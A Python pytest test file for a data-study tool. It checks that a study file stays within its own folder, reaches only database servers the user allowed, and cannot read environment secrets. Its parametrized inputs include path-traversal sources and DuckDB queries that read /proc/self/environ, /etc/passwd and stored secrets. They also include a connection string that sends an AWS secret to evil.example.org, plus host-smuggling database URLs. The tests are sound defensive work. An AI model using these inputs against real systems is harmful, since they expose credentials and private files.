"""A stranger's study file reads its own folder, asks no server, and writes and sends nothing."""

from __future__ import annotations

import os
import tracemalloc

import duckdb
import pytest

from elfair.errors import InputError
from elfair.study import StudyFile
from elfair.study.databases import open_query
from elfair.study.reach import Reach, hosts_of

ROWS = "x,y\n1,0\n2,1\n"


def study(folder, source, query=None, **allowed):
    asked = "" if query is None else f"query = {query!r}\n"
    text = (
        f"title = 'T'\n[data]\nsource = {source}\n{asked}[columns]\nfeatures = ['x']\nlabel = 'y'"
    )
    return StudyFile.loads(text, folder=folder, **allowed)


@pytest.fixture
def folders(tmp_path):
    """The folder of a study, beside one that is none of its business."""
    inside, outside = tmp_path / "study", tmp_path / "private"
    for each in (inside, outside):
        each.mkdir()
        (each / "rows.csv").write_text(ROWS)
    (inside / "parts").mkdir()
    (inside / "parts" / "rows.csv").write_text(ROWS)
    (inside / "link.csv").symlink_to(outside / "rows.csv")
    (inside / "folder").symlink_to(outside)
    (inside / "own.csv").symlink_to(inside / "rows.csv")
    with duckdb.connect(str(outside / "d.db")) as database:
        database.execute("create table t as select 1 as x, 0 as y")
    return inside, outside


OUT = [
    "'../private/rows.csv'",
    "'{private}/rows.csv'",
    "'parts/../../private/rows.csv'",
    "'link.csv'",
    "'folder/rows.csv'",
    "'../private/*.csv'",
    "'../*/rows.csv'",
    "'{private}/*.csv'",
    "'folder/*.csv'",
    "'l*.csv'",
    "['rows.csv', '../private/rows.csv']",
]


@pytest.mark.parametrize("source", OUT)
def test_a_source_outside_the_folder_needs_leave(source, folders):
    inside, outside = folders
    source = source.format(private=outside)
    with pytest.raises(InputError, match="outside its folder") as caught:
        study(inside, source).read()
    assert "--within" in caught.value.hint
    if source == "'../*/rows.csv'":  # which looks into the folder above both
        outside = outside.parent
    study(inside, source, within=[outside]).read()


@pytest.mark.parametrize("source", ["'rows.csv'", "'./parts/../rows.csv'", "'own.csv'", "'r*.csv'"])
def test_its_own_folder_is_free(source, folders):
    assert study(folders[0], source).read().n_read == 2


def test_what_came_later_is_confined_too(folders):
    inside, _ = folders
    text = (
        "title = 'T'\n[data]\nsource = 'rows.csv'\n[later]\nsource = '../private/rows.csv'\n"
        "on = 'x'\n[columns]\nfeatures = ['x']\nlabel = 'y'"
    )
    with pytest.raises(InputError, match=r"'\.\./private/rows.csv', which is outside"):
        StudyFile.loads(text, folder=inside).read()


def test_a_source_that_the_user_names_is_the_users_own(folders):
    inside, outside = folders
    assert study(inside, "'rows.csv'").read(outside / "rows.csv").n_read == 2


@pytest.mark.parametrize("address", ["duckdb:///../private/d.db", "duckdb:///{private}/d.db"])
def test_a_database_file_is_confined(address, folders):
    inside, outside = folders
    address = repr(address.format(private=outside))
    with pytest.raises(InputError, match="outside its folder"):
        study(inside, address, "select * from t").read()
    assert study(inside, address, "select * from t", within=[outside]).read().n_read == 1


OUTSIDE = [
    "select content as x, 1 as y from read_text('{private}/rows.csv')",
    "select content as x, 1 as y from read_text('../private/rows.csv')",
    "select content as x, 1 as y from read_text('link.csv')",
    "select content as x, 1 as y from read_text('folder/rows.csv')",
    "select content as x, 1 as y from read_blob('/proc/self/environ')",
    "select content as x, 1 as y from read_text('/proc/{parent}/environ')",
    "select file as x, 1 as y from glob('/etc/*')",
    "select file as x, 1 as y from glob('{private}/*')",
    "select * from '../private/rows.csv'",
    "select * from read_csv('{private}/rows.csv')",
    "select * from query('from ''../private/rows.csv''')",
    "select * from query_table('../private/rows.csv')",
    "from sniff_csv('/etc/passwd')",
    "select getenv('SECRET_OF_USER') as x, 1 as y",
    "select * from duckdb_secrets()",
    "from 'https://example.org/rows.csv'",
    "from 's3://bucket/rows.csv'",
    "attach '{private}/d.db' as d",
    "load httpfs",
    "set enable_external_access = true",
    "from enable_logging(storage = 'file', storage_path = 'log')",
    "copy (select 1) to '{private}/out.csv'",
]


@pytest.mark.parametrize("query", OUTSIDE)
@pytest.mark.parametrize("address", ["duckdb://", "duckdb:///own.db"])
def test_a_query_leaves_the_folder_nowhere(query, address, folders, monkeypatch):
    inside, outside = folders
    with duckdb.connect(str(inside / "own.db")) as database:
        database.execute("create table t as select 1 as x")
    monkeypatch.setenv("SECRET_OF_USER", "geheim")
    monkeypatch.chdir(outside)  # where the user stands is not the study's folder either
    before = sorted(inside.parent.rglob("*"))
    query = query.format(private=outside, parent=os.getpid())
    with pytest.raises(InputError):
        study(inside, repr(address), query).read()
    assert sorted(inside.parent.rglob("*")) == before


def test_a_query_reads_the_folder_and_what_was_allowed(folders, monkeypatch):
    inside, outside = folders
    monkeypatch.chdir(outside)
    (outside / "parts").mkdir()
    (outside / "parts" / "rows.csv").write_text("x,y\n7,7\n")
    for query in ("from 'rows.csv'", "from 'parts/*.csv'", f"from '{inside}/rows.csv'"):
        assert study(inside, "'duckdb://'", query).read().data.features[:, 0].tolist() == [1, 2]
    query = f"from '{outside}/parts/rows.csv'"
    with pytest.raises(InputError, match="--within"):
        study(inside, "'duckdb://'", query).read()
    assert study(inside, "'duckdb://'", query, within=[outside]).read().n_read == 1


def test_the_environment_of_the_user_is_not_that_of_a_query(tmp_path, monkeypatch):
    """Even a database that could read it would find nothing there."""
    monkeypatch.setenv("SECRET_OF_USER", "geheim")
    asked = {}

    def run(command, *, env, **how):
        asked.update(env)
        raise OSError("not run")

    monkeypatch.setattr("elfair.study.databases.subprocess.run", run)
    with pytest.raises(OSError, match="not run"):
        open_query("duckdb://", "select 1", tmp_path)
    assert "PATH" in asked
    assert "geheim" not in asked.values()


def test_a_module_beside_the_study_is_not_run(tmp_path, monkeypatch):
    (tmp_path / "duckdb.py").write_text("raise SystemExit('run')")
    (tmp_path / "json.py").write_text("raise SystemExit('run')")
    names, _ = open_query("duckdb://", "select 1 as a", tmp_path)
    assert names == ["a"]


def test_a_server_needs_leave_and_hears_nothing_before(folders, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "geheim")
    monkeypatch.setattr("elfair.study.sources.open_query", lambda *_: pytest.fail("asked"))
    address = "'postgresql://x:${AWS_SECRET_ACCESS_KEY}@evil.example.org/db'"
    with pytest.raises(InputError, match="would send it what the address holds") as caught:
        study(folders[0], address, "select 1").read()
    assert "--server evil.example.org" in caught.value.hint
    assert "geheim" not in str(caught.value)


def test_a_server_that_was_allowed_is_asked(folders, monkeypatch):
    asked = []
    monkeypatch.setattr("elfair.study.sources.open_query", lambda *given: asked.append(given) or 1)
    for address in ("postgresql://ann@DB.example.org/d", "mysql://db.example.org:3306/d"):
        with pytest.raises(TypeError):  # what was asked answers nothing here
            study(folders[0], repr(address), "select 1", servers=["db.example.org"]).read()
    assert len(asked) == 2
    for address in ("postgresql://db.example.org/d?host=evil", "postgresql://db.example.org,evil/"):
        with pytest.raises(InputError, match="would send it"):
            study(folders[0], repr(address), "select 1", servers=["db.example.org"]).read()
    assert len(asked) == 2


@pytest.mark.parametrize(
    ("address", "hosts"),
    [
        ("postgresql://[::1]:5432/d", ["::1"]),
        ("postgresql:///d?host=/var/run", ["/var/run"]),
        ("postgresql:///d", ["localhost"]),
        ("postgresql://allowed/d?user=ann@work", ["allowed"]),
        ("postgresql://allowed/d?service=evil&hostaddr=1.2.3.4", ["allowed", "evil", "1.2.3.4"]),
        ("postgresql://%65vil/d?%68ost=worse", ["evil", "worse"]),
        ("postgresql://good/d?HOSTADDR=1.2.3.4", ["good", "1.2.3.4"]),
        ("postgresql://good/d?h%6fst=evil", ["good", "evil"]),
        ("postgresql://good/d?x=1;host=evil", ["good", "evil"]),
        ("postgresql://${HOST}/d", ["${host}"]),
        ("postgresql://[", []),
    ],
)
def test_hosts_are_found_as_drivers_find_them(address, hosts):
    assert hosts_of(address) == hosts


def test_a_folder_that_is_none_is_refused(tmp_path):
    with pytest.raises(InputError, match="within must name folders"):
        Reach.of(tmp_path, [tmp_path / "nowhere"])


@pytest.mark.parametrize(
    "address",
    [
        "postgresql://allowed?@evil/db",
        "postgresql://allowed#@evil/db",
        "postgresql://allowed?user=ann@evil",
        "mysql://allowed#@evil",
        "mysql://allowed/@evil/db",
        "postgresql://u:p@allowed@evil/db",
        "postgresql://allowed\\@evil/db",
        "postgresql://evil\\.allowed/db",
        "postgresql://allowed @evil/db",
        "postgresql://allowed\t@evil/db",
        "postgresql://allowed\n/db",
        "postgresql://allowed\x00.evil/db",
    ],
)
def test_what_programs_read_in_two_ways_is_refused(address):
    """libpq asks `evil` in most of these, and the standard of addresses `allowed`."""
    with pytest.raises(InputError, match="can be read in two ways") as caught:
        Reach((), ("allowed", "evil")).check_server(address, "shown")
    assert str(caught.value).count("Hint:") == 1


def test_no_parameter_names_another_host():
    reach = Reach((), ("allowed",))
    reach.check_server("postgresql://ann@allowed/d?sslmode=require", "shown")
    for other in ("host=evil", "hostaddr=1.2.3.4", "service=evil", "HOST=evil", "%68ost=evil"):
        with pytest.raises(InputError, match="asks the database"):
            reach.check_server(f"postgresql://ann@allowed/d?{other}", "shown")


@pytest.mark.parametrize("source", [".", "./", "..", "parts", "/", "rows.csv/..", "~"])
def test_a_folder_is_no_table(folders, source):
    with pytest.raises(InputError):
        study(folders[0], repr(source)).read()


@pytest.mark.parametrize("cell", ["zeroblob(900000000)", "printf('%.*c', 900000000, 'x')"])
def test_a_giant_cell_is_not_made(tmp_path, cell):
    tracemalloc.start()
    with pytest.raises(InputError, match=r"too big|no row has a value"):
        study(tmp_path, "'sqlite://'", f"select {cell} as x, 1 as y").read()
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert most < 50_000_000
